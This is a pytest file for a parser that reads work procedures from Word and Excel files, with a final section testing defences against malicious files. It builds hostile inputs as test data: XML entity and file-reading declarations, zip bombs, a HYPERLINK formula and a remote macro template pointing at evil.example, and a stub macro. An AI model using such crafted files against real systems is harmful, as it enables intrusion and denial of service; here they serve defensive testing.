"""Procedures from Word and Excel: what people draw in them is understood, what harms is refused."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime
from typing import Any

import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from capture.formats.procedures import parse_procedure, understand_procedure
from data_schemas.errors import ProcedureError
from data_schemas.procedure import Procedure
from tests.capture.formats.office_files import (
    document,
    repacked,
    shared_strings,
    with_doctype,
    workbook,
)

HEADER = ("번호", "작업 내용", "급소", "이유")
ROWS = (HEADER, (1, "닦는다", "마른 천", "기름이 남지 않게"), (2, "끼운다", None, None))


def read(data: bytes, name: str = "작업표준서.xlsx") -> Procedure:
    return parse_procedure(data, name, "prc_1", 1)


def outline(value: Procedure) -> list[tuple[int, str]]:
    return [(depth, one.title) for depth, one, _ in value.outline()]


def refused(data: bytes, name: str = "p.xlsx") -> str:
    with pytest.raises(ProcedureError) as caught:
        read(data, name)
    message = str(caught.value)
    assert message.startswith(name) and message.endswith(".") and "\n" not in message
    return message


# Excel


def test_a_sheet_with_a_title_above_its_header() -> None:
    value = read(workbook([("플랜지 정비",), (), *ROWS]))
    assert (value.title, value.language) == ("플랜지 정비", "ko")
    assert [(s.id, s.title) for s in value.steps] == [("1", "닦는다"), ("2", "끼운다")]
    assert value.steps[0].key_point == ("마른 천",)
    assert value.steps[0].reason == ("기름이 남지 않게",)


def test_the_first_sheet_that_holds_steps_is_read_and_named() -> None:
    other = (HEADER, (1, "다른 일", None, None))
    found = understand_procedure(workbook([("표지",)], ROWS, other), "p.xlsx", "p", 1)
    assert len(found.procedure.steps) == 2
    assert "The steps were read from the sheet “Sheet2”." in found.notes
    assert "The sheet “Sheet3” holds steps too and was not read." in found.notes


def test_hidden_rows_columns_and_sheets_are_left_out() -> None:
    def hide(book: Any) -> None:
        book["Sheet1"].sheet_state = "hidden"
        book["Sheet2"].row_dimensions[2].hidden = True
        book["Sheet2"].column_dimensions["D"].hidden = True

    found = understand_procedure(workbook(ROWS, ROWS, change=hide), "p.xlsx", "p", 1)
    assert [step.title for step in found.procedure.steps] == ["끼운다"]
    assert "Hidden rows were left out: 1." in found.notes
    assert "Hidden columns were left out." in found.notes
    assert "The sheet “Sheet1” is hidden, so it was not read." in found.notes


def test_a_merged_stage_holds_its_rows_and_a_merged_step_its_key_points() -> None:
    rows = (
        ("단계", "작업 내용", "핵심 포인트"),
        ("준비", "닦는다", "마른 천"),
        (None, None, "두 번"),
        (None, "본다", None),
        ("조립", "끼운다", None),
    )

    def merge(book: Any) -> None:
        book["Sheet1"].merge_cells("A2:A4")
        book["Sheet1"].merge_cells("B2:B3")

    value = read(workbook(rows, change=merge))
    assert outline(value) == [(0, "준비"), (1, "닦는다"), (1, "본다"), (0, "조립"), (1, "끼운다")]
    assert value.steps[0].key_point == ("마른 천", "두 번")


def test_a_line_across_the_table_is_a_group_of_the_steps_below_it_or_a_remark() -> None:
    rows = (HEADER, ("준비",), (1, "닦는다"), ("조립",), (2, "끼운다"), ("비고: 두 사람이 한다",))
    found = understand_procedure(workbook(rows), "p.xlsx", "p", 1)
    assert outline(found.procedure) == [(0, "준비"), (1, "닦는다"), (0, "조립"), (1, "끼운다")]
    assert found.notes == ("p.xlsx, row 6 has no title, so it was left out.",)


def test_texts_that_excel_keeps_once_for_all_sheets_are_read() -> None:
    data = shared_strings(["작업 내용", "1. 닦는다", "2. 끼운다"])
    assert [step.title for step in read(data).steps] == ["닦는다", "끼운다"]
    armed = repacked(data, lambda name, c: with_doctype(c) if "shared" in name else c)
    assert "declares XML entities" in refused(armed)


def test_numbers_are_read_as_they_were_meant() -> None:
    """Excel keeps 1-1 as a day and 1 as 1.0."""
    rows = (("no", "title"), (1.0, "A"), (datetime(2026, 1, 1), "B"), (datetime(2026, 1, 2), "C"))
    value = read(workbook(rows))
    assert [(s.id, s.title, s.parent) for s in value.steps] == [
        ("1-1", "B", "1"),
        ("1-2", "C", "1"),
    ]


def test_sub_steps_count_in_their_own_ways() -> None:
    rows = (("No.", "Step"), (1, "A"), ("가", "B"), ("①", "C"), ("②", "D"), ("나", "E"), (2, "F"))
    assert outline(read(workbook(rows))) == [
        (0, "A"), (1, "B"), (2, "C"), (2, "D"), (1, "E"), (0, "F"),
    ]  # fmt: skip


def test_important_steps_key_points_and_reasons_of_training_within_industry() -> None:
    rows = (
        ("Important steps", "Key points", "Reasons"),
        ("Wipe", "dry", "no oil"),
        ("Fit", "", ""),
    )
    value = read(workbook(rows))
    assert [(s.title, s.key_point, s.reason) for s in value.steps] == [
        ("Wipe", ("dry",), ("no oil",)), ("Fit", (), ()),
    ]  # fmt: skip


def test_a_formula_is_text_going_out_and_never_worked_out_coming_in() -> None:
    rows = (("no", "title"), (1, '=HYPERLINK("http://evil.example","x")'), (2, "Wipe"))
    assert [step.title for step in read(workbook(rows)).steps] == ["Wipe"]


def test_a_cell_at_the_far_end_of_the_sheet_costs_nothing() -> None:
    def far(book: Any) -> None:
        book["Sheet1"]["XFD1048576"] = "here"

    found = understand_procedure(workbook(ROWS, change=far), "p.xlsx", "p", 1)
    assert len(found.procedure.steps) == 2


def test_five_thousand_rows_of_steps_are_too_many() -> None:
    rows = [("no", "title"), *((n, f"Turn {n}") for n in range(5000))]
    assert "more than the 1000 that are taken" in refused(workbook(rows))


def test_a_workbook_without_a_header_says_what_is_missing() -> None:
    assert "name the columns" in refused(workbook([("a", "b"), (1, 2)]))


# Word


def numbered(page: Any) -> None:
    page.add_heading("Flange with gasket", 0)
    page.add_paragraph("Valid from May.")
    page.add_paragraph("Clean the flange", style="List Number")
    page.add_paragraph("left side", style="List Number 2")
    page.add_paragraph("right side", style="List Number 2")
    page.add_paragraph("Key point: no scratches", style="List Bullet")
    page.add_paragraph("Fit the gasket", style="List Number")
    page.add_paragraph("Reason: it seals only dry")


def test_an_automatic_list_is_read_with_its_levels() -> None:
    found = understand_procedure(document(numbered), "p.docx", "p", 1)
    value = found.procedure
    assert (value.title, value.language) == ("Flange with gasket", "en")
    assert [s.title for s in value.steps][-1] == "Fit the gasket"
    assert value.steps[-1].reason == ("it seals only dry",)
    assert found.notes == ("“Valid from May.” has no number, so it was left out.",)


def list_item(level: int, text: str, number: int = 1) -> Any:
    return parse_xml(
        f'<w:p {nsdecls("w")}><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/>'
        f"</w:numPr></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"
    )


def test_sub_steps_are_told_by_the_level_of_the_list() -> None:
    def write(page: Any) -> None:
        for level, text in ((0, "A"), (1, "B"), (2, "C"), (1, "D"), (0, "E")):
            page.element.body.append(list_item(level, text))

    value = read(document(write), "p.docx")
    assert outline(value) == [(0, "A"), (1, "B"), (2, "C"), (1, "D"), (0, "E")]


def test_headlines_over_lists_are_groups_and_chapters_without_steps_are_left_out() -> None:
    def write(page: Any) -> None:
        page.add_heading("플랜지 정비", 0)
        page.add_heading("1. 목적", 1)
        page.add_paragraph("새지 않게 한다.")
        page.add_heading("2. 작업", 1)
        page.add_paragraph("가. 닦는다")
        page.add_paragraph("나. 끼운다")

    found = understand_procedure(document(write), "p.docx", "p", 1)
    assert outline(found.procedure) == [(0, "작업"), (1, "닦는다"), (1, "끼운다")]
    assert any("headline without steps" in note for note in found.notes)


def test_a_document_of_headlines_alone_has_them_as_steps() -> None:
    def write(page: Any) -> None:
        for text in ("Clean", "Fit", "Close"):
            page.add_heading(text, 1)
            page.add_paragraph("As every day.")

    assert [step.title for step in read(document(write), "p.docx").steps] == [
        "Clean",
        "Fit",
        "Close",
    ]


def table(page: Any, rows: Any) -> Any:
    made = page.add_table(rows=0, cols=len(rows[0]))
    for row in rows:
        for cell, text in zip(made.add_row().cells, row, strict=True):
            cell.text = text
    return made


def test_tables_that_go_on_after_a_page_are_one_and_the_others_are_told_of() -> None:
    def write(page: Any) -> None:
        page.add_paragraph("제목: 플랜지 정비")
        table(page, [("작성", "김"), ("승인", "이")])
        merged = table(page, [HEADER, ("1", "닦는다", "마른 천", ""), ("", "", "두 번", "")])
        for column in (0, 1):
            merged.cell(1, column).merge(merged.cell(2, column))
        table(page, [HEADER, ("2", "끼운다", "", "")])

    found = understand_procedure(document(write), "p.docx", "p", 1)
    value = found.procedure
    assert (value.title, [step.title for step in value.steps]) == (
        "플랜지 정비",
        ["닦는다", "끼운다"],
    )
    assert value.steps[0].key_point == ("마른 천", "두 번")
    assert "Table 1 has no header such as step, title, so it was left out." in found.notes


def test_words_taken_out_with_changes_tracked_are_gone_and_those_put_in_are_there() -> None:
    changed = (
        f'<w:p {nsdecls("w")}><w:r><w:t xml:space="preserve">1. Turn </w:t></w:r>'
        "<w:del><w:r><w:delText>left</w:delText><w:t>left</w:t></w:r></w:del>"
        "<w:ins><w:r><w:t>right</w:t></w:r></w:ins>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t> secretly</w:t></w:r></w:p>"
    )
    data = document(lambda page: page.element.body.insert(0, parse_xml(changed)))
    assert [step.title for step in read(data, "p.docx").steps] == ["Turn right"]


def test_a_letter_without_numbers_is_no_procedure() -> None:
    data = document(lambda page: page.add_paragraph("Dear Sir, clean the flange."))
    assert "number the steps" in refused(data, "p.docx")


# What harms

SOUND = {"p.xlsx": workbook(ROWS), "p.docx": document(numbered)}
PARTS = {
    "p.xlsx": ["[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml",
               "xl/styles.xml", "docProps/core.xml"],
    "p.docx": ["[Content_Types].xml", "word/document.xml", "word/numbering.xml",
               "word/styles.xml", "_rels/.rels"],
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "part"), [(name, part) for name, parts in PARTS.items() for part in parts]
)
def test_entities_are_refused_before_any_library_sees_them(name: str, part: str) -> None:
    """Billion laughs, and a file of this machine: refused in whatever part they stand."""
    seen: list[str] = []

    def arm(member: str, content: bytes) -> bytes:
        seen.append(member)
        return with_doctype(content) if member == part else content

    data = repacked(SOUND[name], arm)
    assert part in seen
    assert "declares XML entities" in refused(data, name)


def test_entities_are_found_in_another_code_and_under_another_name() -> None:
    utf16 = "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"
    for name in ("word/media/picture.png", "word/other.bin"):
        data = repacked(
            SOUND["p.docx"], lambda _, content: content, **{name: utf16.encode("utf-16")}
        )
        assert "declares XML entities" in refused(data, "p.docx")


@pytest.mark.parametrize("name", SOUND)
def test_a_zip_bomb_is_refused_by_what_it_declares(name: str) -> None:
    data = repacked(
        SOUND[name], lambda _, content: content, **{"xl/media/a.bin": b"0" * (130 << 20)}
    )
    assert len(data) < 1 << 20
    assert "unpacks into more" in refused(data, name)


@pytest.mark.parametrize("name", SOUND)
def test_one_huge_part_is_refused(name: str) -> None:
    huge = b"<a>" + b"<b/>" * (5 << 20) + b"</a>"
    data = repacked(SOUND[name], lambda _, content: content, **{"xl/worksheets/more.xml": huge})
    assert "unpacks into more" in refused(data, name)


def test_thousands_of_members_are_refused() -> None:
    many = {f"xl/{n}.xml": b"<a/>" for n in range(4100)}
    data = repacked(SOUND["p.xlsx"], lambda _, content: content, **many)
    assert "unpacks into more" in refused(data)


def test_other_ways_of_packing_are_refused() -> None:
    """Their readers unpack a whole block at once, whatever length was declared."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("xl/workbook.xml", b"<a/>")
    assert "damaged" in refused(out.getvalue())


@pytest.mark.parametrize("name", SOUND)
@pytest.mark.parametrize("share", [0.1, 0.5, 0.95])
def test_half_a_file_is_damaged(name: str, share: float) -> None:
    data = SOUND[name]
    assert "damaged" in refused(data[: int(len(data) * share)], name)


@pytest.mark.parametrize("name", SOUND)
def test_xml_that_no_office_program_writes_is_damaged(name: str) -> None:
    part = PARTS[name][1]
    for content in (b"<a/>", b"<a>" * 5000 + b"</a>" * 5000, b"not XML"):

        def swap(member: str, old: bytes, new: bytes = content) -> bytes:
            return new if member == part else old

        assert refused(repacked(SOUND[name], swap), name)


def test_macros_and_links_are_never_followed() -> None:
    """A template far away, which Word would fetch on opening, and a macro beside it."""
    link = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    more = {"word/_rels/settings.xml.rels": link, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}
    data = repacked(SOUND["p.docx"], lambda _, content: content, **more)
    assert read(data, "p.docx").steps


def old(*streams: str) -> bytes:
    """The first bytes of an old office file, and the names in its directory."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64 + "".join(streams).encode("utf-16-le")


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (old("Workbook"), "an old Excel (.xls) file: save it as .xlsx"),
        (old("WordDocument"), "an old Word (.doc) file: save it as .docx"),
        (old("FileHeader", "HwpSummaryInformation"), "a Hangul (.hwp) document: save it as .docx"),
        (old("EncryptionInfo", "EncryptedPackage"), "locked with a password: save it without one"),
        (old("VisioDocument"), "of an old kind: save it as .docx or .xlsx"),
        (b"PK\x05\x06" + b"\0" * 18, "not a text file"),
        (b"{\\rtf1 a}", "a PDF or an RTF text: save the procedure as .docx"),
    ],
)
def test_what_must_be_saved_anew_is_told_so(data: bytes, problem: str) -> None:
    assert problem in refused(data)


def test_another_archive_is_no_procedure() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("Contents/section0.xml", b"<a/>")
    assert "neither Word nor Excel" in refused(out.getvalue(), "p.hwpx")


def test_a_file_beyond_all_sizes_is_refused_unread() -> None:
    assert "larger than 32 MB" in refused(b"PK\x03\x04" + b"\0" * (33 << 20))
